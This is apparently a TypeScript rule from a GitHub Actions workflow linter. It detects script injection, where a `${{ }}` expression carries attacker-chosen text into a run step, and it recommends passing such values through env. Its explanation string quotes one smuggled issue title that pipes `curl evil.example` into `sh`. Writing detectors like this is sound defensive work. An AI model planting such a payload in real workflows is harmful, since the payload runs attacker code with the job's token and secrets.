import { type Found, spanOf } from '../../expressions/api.js'
import type { Report, Rule } from '../../rules/rule.js'
import { quoted } from '../../words/quoted.js'
import type { Place } from '../../workflow/place.js'
import { inWorkflow } from '../../workflow/rules/example.js'
import { CODE_INPUTS } from '../facts/sinks.js'
import type { Scene } from '../read/scene.js'
import { readUses } from '../read/uses.js'
import { type Risk, riskOf } from './risk.js'

export const templateInjection: Rule = {
  id: 'security/template-injection',
  level: 'error',
  summary: 'An expression whose value others choose is put into a script.',
  why: 'GitHub replaces `${{ }}` before the shell reads the script: a title such as `"; curl evil.example | sh #` becomes part of the code, which runs with the token and the secrets of the job.',
  mend: 'Pass the value through `env:` and let the shell read the variable: `env: { TITLE: ${{ … }} }`, then `"$TITLE"`. `${{ env.TITLE }}` would be the same hole.',
  source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
  example: inWorkflow(
    6,
    `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${'${{ github.event.issue.title }}'}"
`,
  ),
}

const LEVELS = { open: 'error', likely: 'warning', unclear: 'note' } as const

/** Judges the expressions of one value, where that value is run. */
export function checkInjection(place: Place, founds: readonly Found[], scene: Scene, report: Report): void {
  const sink = sinkOf(place)
  if (sink === null) return
  for (const found of founds) {
    const risk =
      found.expression === null ? null : riskOf(found.expression, { scene, job: place.job, step: place.step })
    if (risk !== null) {
      report(templateInjection, spanOf(found, risk.access), messageOf(found, risk, sink), { level: LEVELS[risk.grade] })
    }
  }
}

function messageOf({ text }: Found, { access, because }: Risk, sink: string): string {
  return `${quoted(text.slice(access.start, access.end))} ${because}, and becomes part of ${sink} before it runs: pass it through \`env\``
}

/** What the value is run as; null where it is not. */
function sinkOf({ node, step, path }: Place): string | null {
  if (step === null) return null
  if (node === step.run) return 'the script'
  if (step.uses === undefined || path.at(-2) !== 'with') return null
  const inputs = CODE_INPUTS.get(readUses(step.uses)?.action ?? '')
  const name = path.at(-1) as string
  return inputs?.includes(name.toLowerCase()) === true ? `the code in ${quoted(name)}` : null
}
